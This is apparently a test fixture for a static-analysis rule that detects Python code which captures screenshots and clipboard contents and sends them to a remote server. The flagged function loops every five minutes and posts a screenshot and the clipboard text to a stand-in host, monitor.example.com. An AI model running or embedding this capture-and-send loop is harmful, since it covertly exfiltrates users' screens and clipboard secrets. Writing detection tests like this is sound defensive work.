import io
import time

import pyperclip
import requests
from PIL import ImageGrab


def loop():
    while True:
        # ruleid: python-screen-or-clipboard-capture-and-send
        img = ImageGrab.grab()
        buf = io.BytesIO()
        img.save(buf, format="PNG")
        requests.post("https://monitor.example.com/screens", files={"s": buf.getvalue()})
        # ruleid: python-screen-or-clipboard-capture-and-send
        requests.post("https://monitor.example.com/clip", data={"c": pyperclip.paste()})
        time.sleep(300)


def describe():
    # ok: python-screen-or-clipboard-capture-and-send
    return "ImageGrab.grab() takes a screenshot"
